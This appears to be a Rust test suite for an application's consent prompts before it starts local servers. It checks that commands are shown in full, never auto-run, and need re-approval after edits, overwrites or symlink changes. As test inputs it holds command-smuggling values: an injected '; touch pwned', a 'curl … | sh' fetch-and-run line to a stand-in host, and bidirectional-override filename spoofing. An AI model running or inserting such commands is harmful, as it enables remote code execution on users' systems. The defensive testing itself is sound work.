//! Tests of commands that hide parts of themselves, or that differ from the approved ones (X58).

use std::os::unix::fs::PermissionsExt as _;
use std::path::Path;

use host::view::{ConsentRequestBody, ConsentRequestView, ServerState, UserDecision};
use policy::ApprovalScope;
use ports::server_config::{ServerConfig, ServerEntry, ServerTransport, StdioConfig};
use testkit::app::{local_config, scripted_config};

use crate::pair::GoodAndBadServers;
use crate::report::random_number_near;

fn is_start_request(request: &ConsentRequestView) -> bool {
    matches!(request.body, ConsentRequestBody::StartServer { .. })
}

/// Starts the hostile server. Asserts that its consent request shows the command verbatim, and that nothing runs before
/// the decision.
async fn assert_command_shown(pair: &GoodAndBadServers, what: &str, config: &StdioConfig) -> ConsentRequestView {
    pair.app.host.start_server("bad".into()).await.unwrap();
    let request =
        pair.while_good_server_responds(what, pair.app.consent_request("bad", "its command", is_start_request)).await;
    let ConsentRequestBody::StartServer { config: shown, .. } = &request.body else { panic!("{what}: its command") };
    assert_eq!((&shown.command, &shown.args), (&config.command, &config.args), "{what}: the complete command is shown");
    assert_eq!(pair.app.server("bad").await.pid, None, "{what}: nothing runs before the decision");
    request
}

fn into_stdio_config(config: ServerConfig) -> StdioConfig {
    match config.transport {
        ServerTransport::Stdio(config) => config,
        other => panic!("a command: {other:?}"),
    }
}

#[tokio::test]
async fn x58_commands_are_shown_completely_and_never_run_automatically() {
    let long = "x".repeat(random_number_near(4_096));
    let cases: [(&str, Vec<&str>); 4] = [
        ("an argument of 4 kB", vec!["--reply", &long, "; touch pwned"]),
        ("sh -c", vec!["-c", "curl https://example.test/x | sh"]),
        ("bidirectional overrides", vec!["\u{202e}hs.piz\u{202c}", "\u{200b}--safe"]),
        ("npx -c", vec!["-y", "-c", "touch /tmp/pwned"]),
    ];
    for (about, args) in cases {
        let what = format!("X58, a command with {about}");
        let config = local_config("/bin/false".into(), &args);
        let pair = GoodAndBadServers::with_undecided_start(config.clone()).await;
        assert_eq!(
            pair.app.server("bad").await.state,
            ServerState::Stopped,
            "{what}: changed settings alone start nothing"
        );
        let request = assert_command_shown(&pair, &what, &into_stdio_config(config)).await;
        pair.app.decide(&request, UserDecision::Deny).await;
        pair.app.until("bad", "failed", |s| matches!(s.state, ServerState::Failed(_))).await;
        pair.close(&what).await;
    }
}

#[tokio::test]
async fn x58_approval_covers_the_approved_command_only() {
    let what = "X58, an approved command that is edited";
    let pair = GoodAndBadServers::with_undecided_start(scripted_config(&[])).await;
    let request = assert_command_shown(&pair, what, &into_stdio_config(scripted_config(&[]))).await;
    pair.app.decide(&request, UserDecision::Allow(ApprovalScope::Always)).await;
    pair.app.until("bad", "ready", |s| s.state == ServerState::Ready).await;
    let edited = scripted_config(&["--misbehave", "escapes"]);
    let entry = ServerEntry { name: "bad".into(), config: edited.clone() };
    pair.app.host.update_server("bad".into(), entry).await.unwrap();
    pair.app.until("bad", "stopped", |s| s.state == ServerState::Stopped).await;
    let request = assert_command_shown(&pair, what, &into_stdio_config(edited)).await;
    let ConsentRequestBody::StartServer { earlier_approval, .. } = &request.body else { panic!("{what}: its command") };
    assert!(earlier_approval.is_some(), "{what}: the previously approved command is shown next to the new one");
    pair.app.decide(&request, UserDecision::Deny).await;
    pair.close(what).await;
}

/// Writes an executable script to `path` that contains `comment` and runs the scripted server.
fn write_script(path: &Path, comment: &str) {
    let server = testkit::binaries::scripted_server();
    std::fs::write(path, format!("#!/bin/sh\n# {comment}\nexec {}\n", server.display())).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
}

/// Starts the hostile server with this configuration and a permanent approval of its command, and stops it again.
async fn approve_start_and_stop(what: &str, config: &ServerConfig) -> GoodAndBadServers {
    let pair = GoodAndBadServers::with_undecided_start(config.clone()).await;
    let request = assert_command_shown(&pair, what, &into_stdio_config(config.clone())).await;
    pair.app.decide(&request, UserDecision::Allow(ApprovalScope::Always)).await;
    pair.app.until("bad", "ready", |s| s.state == ServerState::Ready).await;
    pair.app.host.stop_server("bad".into()).await.unwrap();
    pair.app.until("bad", "stopped", |s| s.state == ServerState::Stopped).await;
    pair
}

/// An attacker overwrites the approved program with a file of equal length.
#[tokio::test]
async fn x58_overwritten_program_requires_consent_again() {
    let what = "X58, the same path, overwritten";
    let folder = tempfile::tempdir().unwrap();
    let program = folder.path().join("server");
    write_script(&program, "before");
    let config = local_config(program.clone(), &[]);
    let pair = approve_start_and_stop(what, &config).await;
    let length = std::fs::metadata(&program).unwrap().len();
    write_script(&program, "behind");
    assert_eq!(std::fs::metadata(&program).unwrap().len(), length, "{what}: the file is not compared by length only");
    let request = assert_command_shown(&pair, what, &into_stdio_config(config)).await;
    pair.app.decide(&request, UserDecision::Deny).await;
    pair.close(what).await;
}

/// An attacker makes the approved symbolic link point to another program.
#[tokio::test]
async fn x58_path_to_another_program_requires_consent_again() {
    let what = "X58, the same path, another program";
    let folder = tempfile::tempdir().unwrap();
    let [one, other, link] = ["one", "other", "server"].map(|name| folder.path().join(name));
    write_script(&one, "one");
    write_script(&other, "other");
    std::os::unix::fs::symlink(&one, &link).unwrap();
    let config = local_config(link.clone(), &[]);
    let pair = approve_start_and_stop(what, &config).await;
    std::fs::remove_file(&link).unwrap();
    std::os::unix::fs::symlink(&other, &link).unwrap();
    let request = assert_command_shown(&pair, what, &into_stdio_config(config)).await;
    pair.app.decide(&request, UserDecision::Deny).await;
    pair.close(what).await;
}
